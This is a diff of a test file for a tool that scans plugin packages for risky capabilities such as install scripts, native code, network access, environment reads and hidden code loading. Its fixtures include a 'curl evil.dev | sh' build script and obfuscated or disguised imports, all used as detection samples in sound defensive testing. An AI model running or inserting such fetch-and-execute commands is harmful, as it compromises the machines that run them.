@@ -23,9 +23,9 @@ test('reads both halves of a plugin, its patch, scripts, native files and depend
       scripts: { postinstall: 'node scripts/build.mjs', test: 'node test.js' },
       dependencies: { semver: '^7.0.0' },
       optionalDependencies: { fsevents: '2' },
-      dsh: { bundle: { patch: './cordis.patch.yml' }, client: { platform: 'web', inject: ['slots'] } },
+      dsh: { bundle: { patch: './cordis.patch.yml' }, client: { platform: 'web', inject: ['slots', 'credentials'] } },
     },
-    'lib/index.js': `import './part'\nexport const inject = ['tools']`,
+    'lib/index.js': `import './part'\nexport const inject = ['tools', 'approval']`,
     'lib/part.js': PROGRAM,
     'lib/client.js': `fetch('https://api.a.dev/x')`,
     'scripts/build.mjs': `import fs from 'fs'\n\nfs.writeFileSync('a', '')`,
@@ -33,59 +33,49 @@ test('reads both halves of a plugin, its patch, scripts, native files and depend
     'lib/addon.node': '\0',
     'cordis.patch.yml': `- id: approval\n  config:\n    mode: !!js >-\n      process.env.MODE\n- insert:\n    - id: own\n      name: a-plugin\n`,
   })
-  expect(answer).toMatchObject({
-    unread: [],
-    roles: new Map([
+  expect([...answer.roles]).toEqual(
+    expect.arrayContaining([
       ['lib/client.js', 'entry'],
-      ['scripts/build.mjs', 'entry'],
+      ['scripts/build.mjs', 'code'],
       ['lib/index.js', 'entry'],
       ['lib/part.js', 'code'],
-      ['test.js', 'code'],
       ['cordis.patch.yml', 'patch'],
       ['package.json', 'scripts'],
     ]),
-    abilities: [
-      { kind: 'install-scripts', names: ['postinstall: node scripts/build.mjs'], more: false, places: [] },
-      {
-        kind: 'native-code',
-        names: ['lib/addon.node'],
-        more: false,
-        places: [{ file: 'lib/addon.node', line: 1, name: 'lib/addon.node' }],
-      },
-      { kind: 'starts-programs', names: ['git'], more: false, places: [{ file: 'lib/part.js', line: 2, name: 'git' }] },
-      { kind: 'runs-text', names: [], more: true, places: [{ file: 'test.js', line: 1, name: null }] },
-      { kind: 'writes-files', names: [], more: true, places: [{ file: 'scripts/build.mjs', line: 3, name: null }] },
-      {
-        kind: 'environment',
-        names: ['MODE'],
-        more: false,
-        places: [{ file: 'cordis.patch.yml', line: 3, name: 'MODE' }],
-      },
-      {
-        kind: 'network',
-        names: ['api.a.dev'],
-        more: false,
-        places: [{ file: 'lib/client.js', line: 1, name: 'api.a.dev' }],
-      },
-      { kind: 'patch-code', names: [], more: true, places: [{ file: 'cordis.patch.yml', line: 3, name: null }] },
-      {
-        kind: 'changes-rows',
-        names: [MODE],
-        more: false,
-        places: [{ file: 'cordis.patch.yml', line: 1, name: MODE }],
-      },
-      {
-        kind: 'service',
-        names: ['slots', 'tools'],
-        more: false,
-        places: [
-          { file: 'package.json', line: 1, name: 'slots' },
-          { file: 'lib/index.js', line: 2, name: 'tools' },
-        ],
-      },
-      { kind: 'dependency', names: ['fsevents 2', 'semver ^7.0.0'], more: false, places: [] },
-    ],
+  )
+  expect(answer.unread).toEqual([])
+  expect(answer.abilities.map(({ kind, names }) => [kind, ...names])).toEqual([
+    ['install-scripts', 'postinstall: node scripts/build.mjs'],
+    ['native-code', 'lib/addon.node'],
+    ['starts-programs', 'git'],
+    ['patch-code'],
+    ['service', 'approval', 'credentials'],
+    ['changes-rows', MODE],
+    ['writes-files'],
+    ['environment', 'MODE'],
+    ['network', 'api.a.dev'],
+    ['dependency', 'fsevents 2', 'semver ^7.0.0'],
+  ])
+  expect(answer.abilities[2]?.places).toEqual([{ file: 'lib/part.js', line: 2, name: 'git' }])
+  // Nothing loads it.
+  expect(answer.others).toMatchObject([{ kind: 'runs-text', places: [{ file: 'test.js', line: 1 }] }])
+  expect(answer.scripts).toMatchObject([
+    {
+      script: 'postinstall: node scripts/build.mjs',
+      files: [
+        { file: 'scripts/build.mjs', lines: [`import fs from 'fs'`, '', `fs.writeFileSync('a', '')`], more: false },
+      ],
+    },
+  ])
+})
+
+test('reads what a script of Node has in its command, and shows the file that it loads', () => {
+  const { scripts, abilities } = read({
+    'package.json': { scripts: { postinstall: `node -e "try{require('./post')}catch(e){}"` } },
+    'post.js': PROGRAM,
   })
+  expect(scripts[0]?.files.map(({ file }) => file)).toEqual(['post.js'])
+  expect(abilities.map(({ kind }) => kind)).toEqual(['install-scripts', 'starts-programs'])
 })
 
 test.for([
@@ -102,44 +92,57 @@ test.for([
       'w.js': PROGRAM,
     },
   ],
-  ['a package within it', { 'node_modules/b/lib.js': PROGRAM }],
-  ['code by a name that is known only while it runs', { 'index.js': 'import(x)', 'lib/hidden.js': PROGRAM }],
+  [
+    'a package within it',
+    { 'index.js': `require('b')`, 'node_modules/b/package.json': { main: 'lib' }, 'node_modules/b/lib.js': PROGRAM },
+  ],
+  ['a name of which a part is known', { 'index.js': "import('./lib/' + x)", 'lib/hidden.js': PROGRAM }],
+  [
+    'a pattern of its own exports',
+    {
+      'package.json': { name: 'a', main: 'i.js', exports: { './internal/*': { types: './t/*', default: './lib/*' } } },
+      'lib/x/install.js': PROGRAM,
+      'i.js': `import 'a/internal/x/install.js'`,
+    },
+  ],
+  ['a file of another ending', { 'index.js': `require('./evil.txt2')`, 'evil.txt2': PROGRAM }],
+  ['a name in escapes', { 'index.js': `import './p%61y.js'`, 'pay.js': PROGRAM }],
+  [
+    'the folder’s own package.json',
+    { 'index.js': `require('./lib')`, 'lib/package.json': { main: 'a.js' }, 'lib/a.js': PROGRAM },
+  ],
 ] as const)('finds the code that is loaded through %s', ([, files]) => {
   expect(kinds(files)).toContain('starts-programs')
 })
 
-test('reads code that it was not seen to load', () => {
-  expect(kinds({ 'index.js': '', 'test/a.js': PROGRAM })).toEqual(['starts-programs'])
+test('tells apart what nothing loads', () => {
+  const { abilities, others } = read({ 'index.js': '', 'test/a.js': PROGRAM })
+  expect([abilities, others.map(({ kind }) => kind)]).toEqual([[], ['starts-programs']])
 })
 
 const PATCH = { dsh: { bundle: { patch: 'a.yml' } } }
 test.for([
-  [
-    'a row of its patch',
-    'evil.txt',
-    { 'package.json': { name: 'a', ...PATCH }, 'a.yml': '- insert:\n  - name: a/evil.txt' },
-  ],
-  [
-    'a part of Node as a row',
-    'child_process',
-    { 'package.json': PATCH, 'a.yml': '- insert:\n  - name: child_process' },
-  ],
-  ['an entry that is not code', 'evil.txt', { 'package.json': { main: 'evil.txt' } }],
-  ['an entry that is missing', 'gone.js', { 'package.json': { main: 'gone.js' }, 'index.js': '' }],
-  ['an entry in TypeScript', 'a.ts', { 'package.json': { exports: { '.': './a.ts' } }, 'a.ts': '' }],
-  ['a pattern with two stars', 'x/*/*.txt', { 'package.json': { exports: { './*': './x/*/*.txt' } } }],
-  ['a file that is not code', './evil.txt', { 'index.js': `require('./evil.txt')` }],
-  ['its own name', 'a/evil.txt', { 'package.json': { name: 'a' }, 'index.js': `import 'a/evil.txt'` }],
-  ['a name in escapes', './p%61y.js', { 'index.js': `import './p%61y.js'`, 'pay.js': '' }],
-  ['a folder with an entry', 'lib/evil.txt', { 'lib/package.json': { main: 'evil.txt' }, 'lib/index.js': '' }],
-  ['another package’s folder', '../other/x', { 'index.js': `require('../other/x')` }],
-  ['an absolute path', '/etc/x.js', { 'index.js': `require('/etc/x.js')` }],
-  ['an address of a file', 'file:///x.js', { 'index.js': `import 'file:///x.js'` }],
-  ['an address', 'https://a.dev/x.js', { 'index.js': `import('https://a.dev/x.js')` }],
-] as const)('names what is loaded but was not read: %s', ([, file, files]) => {
-  expect(read({ 'evil.txt': PROGRAM, 'lib/evil.txt': PROGRAM, ...files }).unread).toMatchObject([
-    { file, reason: 'not-found' },
+  ['another package’s folder', '../other/x'],
+  ['an absolute path', '/etc/x.js'],
+  ['an address of a file', 'file:///x.js'],
+  ['an address', 'https://a.dev/x.js'],
+] as const)('says that code is loaded from elsewhere: %s', ([, name]) => {
+  expect(read({ 'index.js': `import(${JSON.stringify(name)})` }).abilities).toMatchObject([
+    { kind: 'loads-code', names: [name] },
   ])
+})
+
+test('names TypeScript that it would load, and not its declarations', () => {
+  expect(
+    read({ 'package.json': { exports: { '.': './a.ts', './jsx': './jsx.d.ts' } }, 'a.ts': '', 'jsx.d.ts': '' }).unread,
+  ).toMatchObject([{ file: 'a.ts', reason: 'typescript' }])
+})
+
+test('counts variables that tell nothing, and says nothing where there are no others', () => {
+  expect(read({ 'index.js': `process.env.NO_COLOR; process.env.CI; process.env.API_TOKEN` }).abilities).toMatchObject([
+    { kind: 'environment', names: ['API_TOKEN'], harmless: 2 },
+  ])
+  expect(kinds({ 'index.js': `process.env.NO_COLOR; process.env.TERM` })).toEqual([])
 })
 
 test('does not take for missing what is found by the rules of Node', () => {
@@ -170,16 +173,16 @@ test('reads the good values of a manifest beside broken ones', () => {
 
 test('digests all that the build of a repository can read, and what it installs for that', () => {
   const files = { 'package.json': { scripts: { prepare: 'tsc' } }, 'src/a.ts': '' }
-  const { 'prepare: tsc': digest } = read(files).scripts
-  expect(read({ ...files, 'README.md': 'let a' }).scripts).toEqual({ 'prepare: tsc': digest })
+  const digestOf = (given: Readonly<Record<string, string | object>>) =>
+    readAbilities(filesOf({ 'package.json': {}, ...given }), { isRepository: true }).scripts[0]?.digest
+  const digest = digestOf(files)
+  expect(digestOf({ ...files, 'README.md': 'let a' })).toBe(digest)
   for (const path of ['src/a.ts', 'rollup.config.js', 'pnpm-lock.yaml', '.npmrc'])
-    expect(read({ ...files, [path]: 'let a' }).scripts, path).not.toEqual({ 'prepare: tsc': digest })
+    expect(digestOf({ ...files, [path]: 'let a' }), path).not.toBe(digest)
   const manifest = { scripts: { prepare: 'tsc' }, devDependencies: { evil: '1' } }
-  expect(read({ ...files, 'package.json': manifest }).scripts).not.toEqual({ 'prepare: tsc': digest })
-  const runs = (build: string) => read({ 'package.json': { scripts: { prepare: 'npm run build', build } } })
-  expect(runs('tsc').scripts).not.toEqual(runs('curl evil.dev | sh').scripts)
-  // A package of a registry is not built.
-  expect(runs('tsc').opaque).toEqual(runs('curl evil.dev | sh').opaque)
+  expect(digestOf({ ...files, 'package.json': manifest })).not.toBe(digest)
+  const runs = (build: string) => digestOf({ 'package.json': { scripts: { prepare: 'npm run build', build } } })
+  expect(runs('tsc')).not.toBe(runs('curl evil.dev | sh'))
 })
 
 test.for([
@@ -191,7 +194,7 @@ test.for([
   ],
   ['packed', `const a='${'\\x61'.repeat(500)}'`],
   ['minified', `${'function a(b){return b.c(1)}var d=a(2),e=d;'.repeat(100)}`],
-  ['too-large', `//${' '.repeat(4_000_001)}`],
+  ['too-large', `//${' '.repeat(5_000_001)}`],
 ] as const)('names a file that nobody can read as %s', ([reason, code]) => {
   expect(read({ 'index.js': code }).unread).toMatchObject([{ file: 'index.js', reason }])
 })
@@ -237,8 +240,7 @@ test('digests what an install script runs: the files that it names, what they lo
     'src/d.cc': '',
     'index.js': '',
   }
-  const digest = (change: Readonly<Record<string, string>> = {}) =>
-    read({ ...files, ...change }).scripts['postinstall: npm run setup && node ./a']
+  const digest = (change: Readonly<Record<string, string>> = {}) => read({ ...files, ...change }).scripts[0]?.digest
   expect(digest()).toMatch(/^[0-9a-f]{64}$/)
   expect(digest({ 'index.js': 'let a' })).toBe(digest())
   for (const path of ['a.js', 'b.cjs', 'lib/c.js', 'src/d.cc'])
